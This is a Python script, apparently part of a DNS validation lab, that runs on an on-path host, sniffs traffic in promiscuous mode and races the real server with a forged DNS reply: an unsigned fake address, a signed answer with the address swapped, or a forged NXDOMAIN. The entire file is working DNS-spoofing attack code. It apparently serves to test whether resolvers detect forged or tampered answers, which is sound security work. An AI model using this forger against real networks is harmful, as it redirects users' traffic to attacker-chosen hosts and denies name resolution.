"""Run on the attacker's host, which hears every frame: answers one question before the true server does.

    attacker.py KIND NAME SERVER4 SERVER6

KIND is `bare` (another address, without signatures), `altered` (the true answer, fetched before, with another address)
or `denied` (NXDOMAIN). Prints `ready` when it listens, and the forged frame in hexadecimal once it is sent.
"""

import os
import socket
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.dont_write_bytecode = True

from dnslab import packets  # noqa: E402

FORGED_ADDRESS = bytes([203, 0, 113, 66])
TYPE_SOA = 6
TTL = struct.pack(">I", 3600)
SOA_TIMES = struct.pack(">IIIII", 1, 60, 60, 60, 60)
QUERY_SECONDS = 5


class Forger:
    """What one kind of forgery answers."""

    def __init__(self, kind, name, server):
        self.kind = kind
        self.true_answer = fetch(name, server) if kind == "altered" else None

    def response(self, query):
        """The forged DNS message for a query."""
        question = query[12:packets.question_end(query)]
        if self.kind == "altered":
            return query[:2] + self.true_answer[2:]
        if self.kind == "denied":
            zone = struct.pack(">H", 0xC000 + 12 + 1 + query[12])  # points behind the question's first label
            soa = zone + struct.pack(">HH", TYPE_SOA, 1) + TTL + struct.pack(">H", 22) + b"\0\0" + SOA_TIMES
            return query[:2] + struct.pack(">HHHHH", 0x8403, 1, 0, 1, 1) + question + soa + opt()
        answer = b"\xc0\x0c" + struct.pack(">HH", packets.TYPE_A, 1) + TTL + struct.pack(">H", 4) + FORGED_ADDRESS
        return query[:2] + struct.pack(">HHHHH", 0x8400, 1, 1, 0, 1) + question + answer + opt()


def opt():
    """An OPT record with the DO bit and 1,232 octets."""
    return b"\0" + struct.pack(">HHIH", 41, 1232, 0x8000, 0)


def fetch(name, server):
    """The true answer with its signatures, with the forged address put in."""
    header = struct.pack(">HHHHHH", 1, 0, 1, 0, 0, 1)
    query = header + packets.wire_name(name) + struct.pack(">HH", packets.TYPE_A, 1) + opt()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(QUERY_SECONDS)
        client.sendto(query, (server, 53))
        answer = client.recv(4096)
    record = packets.question_end(answer) + 2 + 10
    return answer[:record] + FORGED_ADDRESS + answer[record + 4:]


def main():
    """Waits for the question, answers it once."""
    kind, name, server4, server6 = sys.argv[1:]
    forger = Forger(kind, name, server4)
    servers = {socket.inet_pton(socket.AF_INET, server4), socket.inet_pton(socket.AF_INET6, server6)}
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as wire:
        wire.bind(("eth0", 0))
        promiscuous(wire)
        print("ready", flush=True)
        while True:
            datagram = packets.parse(wire.recv(65535))
            if datagram and datagram.target in servers and datagram.target_port == 53 \
                    and packets.question(datagram.payload) == (name, packets.TYPE_A):
                frame = datagram.reply(forger.response(datagram.payload), wire.getsockname()[4])
                wire.send(frame)
                print(frame.hex(), flush=True)
                return


def promiscuous(wire):
    """Hears frames that are for others (PACKET_ADD_MEMBERSHIP, PACKET_MR_PROMISC)."""
    request = struct.pack("iHH8s", socket.if_nametoindex("eth0"), 1, 0, b"")
    wire.setsockopt(263, 1, request)


main()
